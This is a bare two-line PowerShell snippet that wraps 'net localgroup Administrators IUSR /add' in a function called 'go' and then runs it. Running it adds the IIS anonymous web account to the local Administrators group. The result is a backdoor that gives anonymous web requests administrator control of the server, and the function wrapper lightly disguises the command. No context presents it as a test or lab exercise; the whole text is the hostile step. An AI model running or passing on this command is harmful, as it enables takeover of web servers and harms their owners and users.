New-Item -Path function: -Name go -Value { net localgroup Administrators IUSR /add } | Out-Null
go
